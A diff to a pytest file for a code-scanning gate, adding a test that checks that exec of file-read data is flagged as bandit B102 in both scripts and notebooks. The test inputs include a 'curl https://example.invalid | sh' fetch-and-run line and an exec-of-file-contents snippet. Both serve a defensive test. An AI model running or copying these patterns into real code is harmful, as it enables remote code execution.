@@ -179,6 +179,20 @@ def test_notebook_code_cells_are_judged_at_their_own_lines(repo: GitRepo) -> Non
     assert result.verdict.outcome is Outcome.FAIL
 
 
+@pytest.mark.parametrize("name", ["tool.py", "tool.ipynb"])
+def test_calibration_reads_notebook_cells_as_python(repo: GitRepo, name: str) -> None:
+    # exec of data read from a file: no rule of ours confirms it (a call-only bandit check),
+    # calibration keeps it blocking as an escape. It must read a notebook's code, not its JSON.
+    code = ["import pathlib\n", "payload = pathlib.Path('job.txt').read_text()\n", "exec(payload)"]
+    config = "[analyzers.pylint]\nenabled = false\n[analyzers.mypy]\nenabled = false\n"
+    repo.commit("base", files={".aigate.toml": config, "README.md": "app\n"})
+    repo.checkout("-b", "feature")
+    text = notebook(code) if name.endswith(".ipynb") else "".join(code) + "\n"
+    repo.commit("tool", files={name: text})
+    result = scan(repo)
+    assert {rule for rule, path, _line in blocking(result) if path == name} == {"bandit/B102"}
+
+
 def test_notebook_that_cannot_be_mapped_blocks(repo: GitRepo) -> None:
     start(repo)
     text = notebook(["%%bash\n", "curl https://example.invalid | sh\n"])
